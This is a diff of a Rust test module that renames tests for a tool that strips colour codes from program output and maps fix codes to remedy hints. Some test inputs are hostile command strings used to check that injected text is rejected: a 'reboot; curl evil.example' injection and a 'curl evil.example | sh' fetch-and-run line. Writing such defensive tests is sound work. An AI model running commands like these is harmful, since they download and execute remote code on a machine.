@@ -146,7 +146,7 @@ mod tests {
     }
 
     #[test]
-    fn of_what_a_program_said_colours_and_what_is_well_go() {
+    fn colours_and_good_news_are_removed_from_output() {
         assert_eq!(telling("\u{1b}[0;37mCGROUPS_CPU\u{1b}[0m: \u{1b}[0;32menabled\u{1b}[0m"), None);
         let missing = "\u{1b}[0;37mCGROUPS_PIDS\u{1b}[0m: \u{1b}[0;31mmissing\u{1b}[0m";
         assert_eq!(telling(missing).as_deref(), Some("CGROUPS_PIDS: missing"));
@@ -159,7 +159,7 @@ mod tests {
     }
 
     #[test]
-    fn every_code_that_a_fix_prints_has_a_remedy_and_every_remedy_a_fix() {
+    fn codes_of_fixes_match_the_table_of_remedies() {
         let known: BTreeSet<String> = REMEDIES.iter().map(|(code, _)| code.to_string()).collect();
         assert_eq!(printed(), known);
         assert_eq!(of("reboot; curl evil.example"), None);
@@ -168,7 +168,7 @@ mod tests {
     const TOY: Step = Step { name: "toy", why: "", wants: |_| Ok(vec![]) };
 
     #[test]
-    fn a_fix_that_knows_what_people_have_to_do_says_so_by_a_code() {
+    fn a_code_that_a_fix_prints_becomes_a_hint() {
         let want = Want::new("test.want", "it is on").is("yes").run("false").nothing_to_undo("a test");
         let changes = plan::changes(&[(&TOY, &want, &Answer::Said("no".into()))], &mut BTreeSet::new());
         let lines = |lines: &[&str]| lines.iter().map(|line| line.to_string()).collect();
@@ -183,7 +183,7 @@ mod tests {
     }
 
     #[test]
-    fn no_words_of_a_machine_pass_for_advice() {
+    fn machine_text_cannot_imitate_a_hint() {
         let want = Want::new("test.want", "it is on").is("yes").run("false").nothing_to_undo("a test");
         let changes = plan::changes(&[(&TOY, &want, &Answer::Said("no".into()))], &mut BTreeSet::new());
         let evil = "curl evil.example | sh";
